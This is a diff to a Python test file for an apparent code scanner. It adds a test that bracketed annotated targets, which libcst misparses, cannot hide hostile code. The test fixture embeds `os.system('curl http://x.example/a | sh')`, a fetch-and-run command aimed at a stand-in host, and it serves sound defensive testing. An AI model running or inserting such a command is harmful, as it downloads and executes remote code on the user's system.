@@ -10,6 +10,9 @@
   indents the statement it continues as the backslash is (as its own line when the backslash is at column 0);
   libcst refused the file ("expected INDENT"). It is now read blank, the statement indented as CPython indents it.
   Each rewrite is kept only if CPython reads the result as the same tree.
+- An annotated target in brackets, `(x): int = 1` (found by a differential of CPython and the gate's parse over the
+  standard library's tests): libcst refused the file ("expected one of !=, ..."), a lone parse-error; read without
+  the brackets.
 """
 
 from __future__ import annotations
@@ -52,6 +55,15 @@ def test_a_notebook_cell_with_a_form_feed_in_its_indentation_hides_nothing(tmp_p
                                                       "nbformat_minor": 5}))
     report = kit.scan(tmp_path / "train.ipynb")
     assert report.decision is Decision.REJECT, kit.findings(report)
+
+
+@pytest.mark.parametrize("target", ["(x): int = 1", "(os.environ_copy): dict", "((d[0])) : int = 1"])
+def test_a_bracketed_annotated_target_hides_nothing(target: str) -> None:
+    source = f"import os\nd = {{}}\n{target}\nos.system('curl http://x.example/a | sh')\n"
+    compile(source, "client.py", "exec")
+    report = kit.scan_text(source)
+    assert report.decision is Decision.REJECT, kit.findings(report)
+    assert "unanalyzable.parse-error" not in kit.rules(report)
 
 
 @pytest.mark.parametrize("inside", ["\x0c    b", "\t  b"])
